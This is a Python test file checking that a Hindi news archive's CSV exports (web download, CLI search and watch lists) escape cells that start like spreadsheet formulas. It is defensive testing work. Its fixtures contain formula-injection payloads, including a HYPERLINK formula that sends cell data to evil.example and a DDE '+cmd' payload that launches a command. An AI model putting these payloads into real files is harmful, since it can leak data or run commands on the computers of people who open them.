"""Exports a spreadsheet cannot be tricked by: every CSV the product writes (the web page's download, the
CLI's search and watch lists) neutralises a cell that starts like a formula, and the text survives for a
reader of the file."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from archive.config import Settings
from archive.sheets import FORMULA_STARTS
from archive.web.app import create_app
from tests.conftest import Run, write_jsonl

TRAPS = [
    {
        "title": '=HYPERLINK("http://evil.example/?"&A1, "बाढ़ की खबर")',
        "body": "-2+3 बाढ़ से नदी उफान पर।",
        "source": "@SUM(1+1)",
        "category": "+cmd|' /C calc'!A0",
        "date": "2019-07-04",
        "url": "https://example.org/1",
    },
    {
        "title": "बाढ़ राहत शिविर",
        "body": "राहत शिविर में बाढ़ पीड़ितों को भोजन मिला।",
        "source": "जनसत्ता",
        "category": "देश",
        "date": "2019-08-11",
        "url": "https://example.org/2",
    },
]


def cells(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def assert_neutral(rows: list[dict[str, str]]) -> None:
    assert rows
    for row in rows:
        for key, value in row.items():
            assert not value.startswith(FORMULA_STARTS), (key, value)


def assert_text_survives(rows: list[dict[str, str]]) -> None:
    trap = next(row for row in rows if "HYPERLINK" in row["title"])
    assert trap["title"] == "'" + TRAPS[0]["title"]
    assert trap["source"] == "'@SUM(1+1)"
    assert trap["category"] == "'" + TRAPS[0]["category"]
    assert "2+3 बाढ़ से नदी" in trap["snippet"]
    plain = next(row for row in rows if row["title"] == "बाढ़ राहत शिविर")
    assert plain["source"] == "जनसत्ता"  # nothing else is touched


@pytest.fixture
def ingested(run: Run, tmp_path: Path) -> Run:
    assert run("ingest", str(write_jsonl(tmp_path / "traps.jsonl", TRAPS))).exit_code == 0
    return run


def test_the_web_pages_csv_neutralises_formulas(ingested: Run, settings: Settings) -> None:
    client = TestClient(create_app(settings))
    rows = cells(client.get("/search.csv", params={"q": "बाढ़"}).text)
    assert len(rows) == 2
    assert_neutral(rows)
    assert_text_survives(rows)


def test_the_clis_csv_neutralises_formulas_and_matches_the_web(ingested: Run, settings: Settings) -> None:
    result = ingested("search", "बाढ़", "--all", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = cells(result.stdout)
    assert_neutral(rows)
    assert_text_survives(rows)
    web = cells(TestClient(create_app(settings)).get("/search.csv", params={"q": "बाढ़"}).text)
    assert sorted(rows, key=lambda r: r["id"]) == sorted(web, key=lambda r: r["id"])


def test_the_clis_saved_search_list_neutralises_formulas(ingested: Run) -> None:
    added = ingested("watch", "add", "=cmd", "बाढ़")
    if added.exit_code != 0:  # a name that cannot start with "=": the query is text the user typed too
        added = ingested("watch", "add", "floods", "-राहत बाढ़")
    assert added.exit_code == 0, added.output
    result = ingested("watch", "list", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = cells(result.stdout)
    assert_neutral(rows)
    assert any(value.startswith("'=") or value.startswith("'-") for row in rows for value in row.values())
